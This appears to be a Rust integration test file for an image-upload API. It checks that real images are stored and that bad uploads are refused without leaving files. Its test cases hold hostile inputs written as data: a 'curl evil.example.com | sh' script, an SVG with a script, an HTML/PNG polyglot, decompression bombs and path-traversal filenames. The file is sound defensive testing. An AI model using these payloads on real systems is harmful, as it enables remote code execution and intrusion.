//! Image uploads over HTTP: good PNG, JPEG and WebP made in the test and
//! served back byte for byte; every bad upload refused with nothing left on
//! disk; the club's disk use, and deleting what nothing shows.

use std::io::Cursor;
use std::path::{Path, PathBuf};

use serde_json::json;
use standup_tickets::model::admins::AdminRole;

use crate::common::admin::{admin_token, owner_token};
use crate::common::*;

fn encoded(format: image::ImageFormat, w: u32, h: u32) -> Vec<u8> {
    let img = image::RgbImage::from_fn(w, h, |x, y| {
        image::Rgb([(x * 7) as u8, (y * 5) as u8, ((x + y) * 3) as u8])
    });
    let mut out = Cursor::new(Vec::new());
    image::DynamicImage::ImageRgb8(img)
        .write_to(&mut out, format)
        .unwrap();
    out.into_inner()
}

/// A PNG whose header claims `w`×`h`, chunks and CRCs right, pixels none.
fn png_claiming(w: u32, h: u32) -> Vec<u8> {
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut chunk = |kind: &[u8], data: &[u8]| {
        out.extend((data.len() as u32).to_be_bytes());
        let mut body = kind.to_vec();
        body.extend(data);
        out.extend(&body);
        out.extend(crc32fast::hash(&body).to_be_bytes());
    };
    let mut ihdr = w.to_be_bytes().to_vec();
    ihdr.extend(h.to_be_bytes());
    ihdr.extend([8, 2, 0, 0, 0]);
    chunk(b"IHDR", &ihdr);
    chunk(
        b"IDAT",
        &[0x78, 0x01, 0x01, 0x00, 0x00, 0xff, 0xff, 0, 0, 0, 1],
    );
    chunk(b"IEND", &[]);
    out
}

/// A real, honest PNG of `w`×`h` grey pixels all black: every byte of
/// pixel data is there, compressed as far as zlib goes (8000×8000 is about
/// 64 KB on disk and 64 MB once decoded).
fn png_bomb(w: u32, h: u32) -> Vec<u8> {
    use std::io::Write;
    let mut z = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    let row = vec![0u8; w as usize + 1];
    for _ in 0..h {
        z.write_all(&row).unwrap();
    }
    let idat = z.finish().unwrap();
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    let mut chunk = |kind: &[u8], data: &[u8]| {
        out.extend((data.len() as u32).to_be_bytes());
        let mut body = kind.to_vec();
        body.extend(data);
        out.extend(&body);
        out.extend(crc32fast::hash(&body).to_be_bytes());
    };
    let mut ihdr = w.to_be_bytes().to_vec();
    ihdr.extend(h.to_be_bytes());
    ihdr.extend([8, 0, 0, 0, 0]);
    chunk(b"IHDR", &ihdr);
    chunk(b"IDAT", &idat);
    chunk(b"IEND", &[]);
    out
}

/// A multipart body, by hand, so each part can be as wrong as a test needs.
fn form(parts: &[(&str, Option<&str>, &[u8])]) -> (String, Vec<u8>) {
    let boundary = "----standup-boundary-7d1f";
    let mut body = Vec::new();
    for (name, file_name, bytes) in parts {
        body.extend(format!("--{boundary}\r\n").as_bytes());
        let disposition = match file_name {
            Some(f) => {
                format!("Content-Disposition: form-data; name=\"{name}\"; filename=\"{f}\"\r\n")
            }
            None => format!("Content-Disposition: form-data; name=\"{name}\"\r\n"),
        };
        body.extend(disposition.as_bytes());
        // The declared type is always "image/png": it must not matter.
        body.extend(b"Content-Type: image/png\r\n\r\n");
        body.extend(*bytes);
        body.extend(b"\r\n");
    }
    body.extend(format!("--{boundary}--\r\n").as_bytes());
    (format!("multipart/form-data; boundary={boundary}"), body)
}

struct Uploads {
    t: TestApp,
    owner: String,
    dir: PathBuf,
    _tmp: tempfile::TempDir,
}

impl Uploads {
    async fn post(&self, token: &str, content_type: &str, body: Vec<u8>) -> Reply {
        let res = self
            .t
            .client
            .post(self.t.url("/api/admin/uploads"))
            .bearer_auth(token)
            .header("content-type", content_type)
            .body(body)
            .send()
            .await
            .unwrap();
        let status = res.status().as_u16();
        let text = res.text().await.unwrap();
        Reply {
            status,
            json: serde_json::from_str(&text).unwrap_or(serde_json::Value::Null),
            text,
            retry_after: None,
        }
    }

    async fn upload(&self, file_name: &str, bytes: &[u8]) -> Reply {
        let (ct, body) = form(&[("file", Some(file_name), bytes)]);
        self.post(&self.owner, &ct, body).await
    }
}

/// Every file under `dir`, recursively.
fn files(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    if let Ok(entries) = std::fs::read_dir(dir) {
        for e in entries.flatten() {
            let p = e.path();
            if p.is_dir() {
                out.extend(files(&p));
            } else {
                out.push(p);
            }
        }
    }
    out.sort();
    out
}

async fn uploads() -> Uploads {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("images");
    let d = dir.clone();
    let t = TestApp::start_in(tmp.path(), move |c| c.upload_path = d).await;
    t.seed_tenant("dt").await;
    let owner = owner_token(&t, "dt").await;
    Uploads {
        t,
        owner,
        dir,
        _tmp: tmp,
    }
}

#[tokio::test]
async fn good_images_are_stored_and_served_back_exactly() {
    let u = uploads().await;
    for (format, ext, ct) in [
        (image::ImageFormat::Png, "png", "image/png"),
        (image::ImageFormat::Jpeg, "jpg", "image/jpeg"),
        (image::ImageFormat::WebP, "webp", "image/webp"),
    ] {
        let bytes = encoded(format, 64, 48);
        // The client's name and declared type are not what decides.
        let r = u.upload("海报 最终版.gif", &bytes).await;
        assert_eq!(r.json["message"], "上传成功", "{ext}: {}", r.text);
        let d = r.data();
        assert_eq!(
            (d["width"].as_u64(), d["height"].as_u64()),
            (Some(64), Some(48))
        );
        assert_eq!(d["bytes"].as_u64(), Some(bytes.len() as u64));
        assert_eq!(d["contentType"], ct);
        let url = d["url"].as_str().unwrap();
        assert!(
            url.starts_with("/static/dt/") && url.ends_with(&format!(".{ext}")),
            "{url}"
        );
        let served = u.t.client.get(u.t.url(url)).send().await.unwrap();
        assert_eq!(served.status(), 200);
        assert_eq!(served.headers()["content-type"], ct);
        assert_eq!(served.headers()["x-content-type-options"], "nosniff");
        assert!(
            served.headers()["cache-control"]
                .to_str()
                .unwrap()
                .contains("max-age=31536000")
        );
        assert_eq!(
            served.bytes().await.unwrap().as_ref(),
            &bytes[..],
            "byte for byte"
        );
    }
    let on_disk = files(&u.dir);
    assert_eq!(on_disk.len(), 3);
    assert!(on_disk.iter().all(|p| p.parent().unwrap().ends_with("dt")));
    let staff = admin_token(&u.t, "dt", "door", AdminRole::Staff).await;
    let (ct, body) = form(&[(
        "file",
        Some("a.png"),
        &encoded(image::ImageFormat::Png, 4, 4),
    )]);
    u.post(&staff, &ct, body).await.expect(403, "OWNER_ONLY");
    assert_eq!(files(&u.dir).len(), 3);
}

#[tokio::test]
async fn bad_uploads_are_refused_and_leave_nothing() {
    let u = uploads().await;
    let good = encoded(image::ImageFormat::Png, 16, 16);
    let svg = b"<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(1)</script></svg>";
    let script = b"#!/bin/sh\ncurl evil.example.com | sh\n";
    let truncated = &good[..good.len() / 2];
    let six_mb = {
        let mut b = good.clone();
        b.resize(6 * 1024 * 1024, 0);
        b
    };
    let bomb = png_claiming(100_000, 100_000);
    let big_bomb = png_bomb(8000, 8000);
    let garbage_pixels = png_claiming(16, 16);
    let jpeg = encoded(image::ImageFormat::Jpeg, 64, 64);
    let cut_jpeg = jpeg[..jpeg.len() / 2].to_vec();
    // Its headers, then noise where the scan should be, then the end marker.
    let garbage_jpeg = {
        let sos = jpeg.windows(2).position(|w| w == [0xFF, 0xDA]).unwrap();
        let mut j = jpeg[..sos + 14].to_vec();
        let mut x: u32 = 2_654_435_761;
        for _ in 0..1000 {
            x ^= x << 13;
            x ^= x >> 17;
            x ^= x << 5;
            j.push(x as u8);
        }
        j.extend([0xFF, 0xD9]);
        j
    };
    let webp = encoded(image::ImageFormat::WebP, 16, 16);
    let garbage_webp = {
        let mut w = webp.clone();
        for b in &mut w[20..] {
            *b = 0x5A;
        }
        w
    };
    // PNG chunks around an HTML page: whole by structure, no image inside.
    let polyglot = {
        let mut p = png_claiming(4, 4);
        let idat = p.windows(4).position(|w| w == b"IDAT").unwrap();
        let html = b"<html><script>alert(1)</script></html>";
        let mut body = b"IDAT".to_vec();
        body.extend(html);
        let mut chunk = (html.len() as u32).to_be_bytes().to_vec();
        chunk.extend(&body);
        chunk.extend(crc32fast::hash(&body).to_be_bytes());
        let end = idat + 4 + 11 + 4;
        p.splice(idat - 4..end, chunk);
        p
    };
    /// What is sent, as (content type, body), and what must come back.
    type Case<'a> = (&'a str, (String, Vec<u8>), u16, &'a str);
    let cases: Vec<Case> = vec![
        (
            "svg",
            form(&[("file", Some("logo.svg"), svg)]),
            415,
            "UPLOAD_TYPE_NOT_ALLOWED",
        ),
        (
            "script as png",
            form(&[("file", Some("x.png"), script)]),
            415,
            "UPLOAD_TYPE_NOT_ALLOWED",
        ),
        (
            "truncated png",
            form(&[("file", Some("x.png"), truncated)]),
            400,
            "UPLOAD_INVALID",
        ),
        (
            "6 MB",
            form(&[("file", Some("big.png"), &six_mb)]),
            413,
            "UPLOAD_TOO_LARGE",
        ),
        (
            "huge dimensions",
            form(&[("file", Some("bomb.png"), &bomb)]),
            400,
            "UPLOAD_INVALID",
        ),
        (
            "8000×8000 of 64 KB",
            form(&[("file", Some("bomb.png"), &big_bomb)]),
            400,
            "UPLOAD_INVALID",
        ),
        (
            "garbage pixel data",
            form(&[("file", Some("g.png"), &garbage_pixels)]),
            400,
            "UPLOAD_INVALID",
        ),
        (
            "truncated jpeg",
            form(&[("file", Some("c.jpg"), &cut_jpeg)]),
            400,
            "UPLOAD_INVALID",
        ),
        (
            "garbage jpeg",
            form(&[("file", Some("g.jpg"), &garbage_jpeg)]),
            400,
            "UPLOAD_INVALID",
        ),
        (
            "garbage webp",
            form(&[("file", Some("g.webp"), &garbage_webp)]),
            400,
            "UPLOAD_INVALID",
        ),
        (
            "html in png chunks",
            form(&[("file", Some("p.png"), &polyglot)]),
            400,
            "UPLOAD_INVALID",
        ),
        (
            "empty file",
            form(&[("file", Some("e.png"), b"")]),
            400,
            "VALIDATION_FAILED",
        ),
        (
            "traversal name",
            form(&[("file", Some("../../etc/passwd"), &good)]),
            400,
            "VALIDATION_FAILED",
        ),
        (
            "windows traversal",
            form(&[("file", Some("..\\..\\x.png"), &good)]),
            400,
            "VALIDATION_FAILED",
        ),
        (
            "part named a path",
            form(&[("../file", Some("a.png"), &good)]),
            400,
            "VALIDATION_FAILED",
        ),
        (
            "wrong part",
            form(&[("image", Some("a.png"), &good)]),
            400,
            "VALIDATION_FAILED",
        ),
        (
            "two files",
            form(&[
                ("file", Some("a.png"), &good),
                ("file", Some("b.png"), &good),
            ]),
            400,
            "VALIDATION_FAILED",
        ),
        ("no parts", form(&[]), 400, "VALIDATION_FAILED"),
        (
            "not multipart",
            (
                "application/json".to_string(),
                b"{\"file\": \"x\"}".to_vec(),
            ),
            400,
            "VALIDATION_FAILED",
        ),
        (
            "empty body",
            ("multipart/form-data; boundary=x".to_string(), Vec::new()),
            400,
            "VALIDATION_FAILED",
        ),
    ];
    assert!(big_bomb.len() < 300 * 1024, "{}", big_bomb.len());
    for (what, (ct, body), status, code) in cases {
        let r = u.post(&u.owner, &ct, body).await;
        assert_eq!(r.status, status, "{what}: {}", r.text);
        let message = r.json["message"].as_str().unwrap_or_default();
        assert!(
            !message.is_ascii(),
            "{what}: the message is Chinese: {message}"
        );
        assert_eq!(r.json["error"], code, "{what}: {}", r.text);
        assert!(
            r.json["message"].as_str().is_some_and(|m| !m.is_empty()),
            "{what}"
        );
        assert!(
            files(&u.dir).is_empty(),
            "{what} left a file: {:?}",
            files(&u.dir)
        );
    }
    let list = u.t.get_as("/api/admin/uploads", &u.owner).await;
    assert!(
        list.data()["items"].as_array().unwrap().is_empty(),
        "no record"
    );
    // A smaller limit is the limit.
    let tmp = tempfile::tempdir().unwrap();
    let t = TestApp::start_in(tmp.path(), |c| c.upload_max_bytes = 1024).await;
    t.seed_tenant("dt").await;
    let small = Uploads {
        owner: owner_token(&t, "dt").await,
        t,
        dir: tmp.path().join("uploads"),
        _tmp: tmp,
    };
    let r = small
        .upload("a.png", &encoded(image::ImageFormat::Png, 64, 64))
        .await;
    r.expect(413, "UPLOAD_TOO_LARGE");
    assert!(r.json["message"].as_str().unwrap().contains("1 KB"));
}

#[tokio::test]
async fn the_club_sees_its_disk_use_and_deletes_what_nothing_shows() {
    let u = uploads().await;
    let a = u
        .upload("a.png", &encoded(image::ImageFormat::Png, 20, 20))
        .await
        .data()
        .clone();
    let b = u
        .upload("b.jpg", &encoded(image::ImageFormat::Jpeg, 20, 20))
        .await
        .data()
        .clone();
    let list = u.t.get_as("/api/admin/uploads", &u.owner).await;
    let l = list.data();
    assert_eq!(l["items"].as_array().unwrap().len(), 2);
    assert_eq!(
        l["totalBytes"].as_u64().unwrap(),
        a["bytes"].as_u64().unwrap() + b["bytes"].as_u64().unwrap()
    );
    // A banner shows `a`: it is in use and cannot go.
    let banner =
        u.t.post(
            "/api/admin/banners",
            Some(&u.owner),
            json!({"title": "新年", "image": a["url"]}),
        )
        .await
        .data()
        .clone();
    let list = u.t.get_as("/api/admin/uploads", &u.owner).await;
    let a_row = list.data()["items"]
        .as_array()
        .unwrap()
        .iter()
        .find(|i| i["id"] == a["id"])
        .unwrap()
        .clone();
    assert_eq!(a_row["inUse"], true);
    let a_path = format!("/api/admin/uploads/{}", a["id"].as_str().unwrap());
    u.t.delete(&a_path, Some(&u.owner))
        .await
        .expect(409, "UPLOAD_IN_USE");
    assert_eq!(files(&u.dir).len(), 2);
    // Another club's owner cannot delete it either.
    u.t.seed_tenant("xc").await;
    let other = owner_token(&u.t, "xc").await;
    u.t.delete(
        &format!("/api/admin/uploads/{}", b["id"].as_str().unwrap()),
        Some(&other),
    )
    .await
    .expect(404, "UPLOAD_NOT_FOUND");
    // The banner moves to `b`: `a` can go, file and all.
    let id = banner["id"].as_str().unwrap();
    u.t.put(
        &format!("/api/admin/banners/{id}"),
        Some(&u.owner),
        json!({"title": "新年", "image": b["url"]}),
    )
    .await
    .data();
    let r = u.t.delete(&a_path, Some(&u.owner)).await;
    assert_eq!(r.status, 200, "{}", r.text);
    assert_eq!(files(&u.dir).len(), 1);
    let gone =
        u.t.client
            .get(u.t.url(a["url"].as_str().unwrap()))
            .send()
            .await
            .unwrap();
    assert_eq!(gone.status(), 404);
    u.t.delete(&a_path, Some(&u.owner))
        .await
        .expect(404, "UPLOAD_NOT_FOUND");
    let log =
        u.t.get_as("/api/admin/audit-log?targetType=upload", &u.owner)
            .await;
    assert!(log.text.contains("upload_created") && log.text.contains("upload_deleted"));
}

/// Folders under /static answer 404, never a redirect: nested under
/// /static, a redirect lost the prefix, and `/static///x` pointed at
/// another host.
#[tokio::test]
async fn folders_under_static_are_not_found_never_redirected() {
    let u = uploads().await;
    let url = u
        .upload("a.png", &encoded(image::ImageFormat::Png, 8, 8))
        .await
        .data()["url"]
        .as_str()
        .unwrap()
        .to_string();
    std::fs::create_dir_all(u.dir.join("demo")).unwrap();
    let client = reqwest::Client::builder()
        .redirect(reqwest::redirect::Policy::none())
        .build()
        .unwrap();
    for path in [
        "/static/demo",
        "/static/demo/",
        "/static///demo",
        "/static//demo/",
        "/static/dt",
        "/static/dt/",
        "/static/",
        "/static",
        "/static/%2e%2e/",
    ] {
        let res = client.get(u.t.url(path)).send().await.unwrap();
        assert_eq!(res.status(), 404, "{path}");
        assert!(res.headers().get("location").is_none(), "{path}");
    }
    // Files are still served.
    let res = client.get(u.t.url(&url)).send().await.unwrap();
    assert_eq!(res.status(), 200);
}
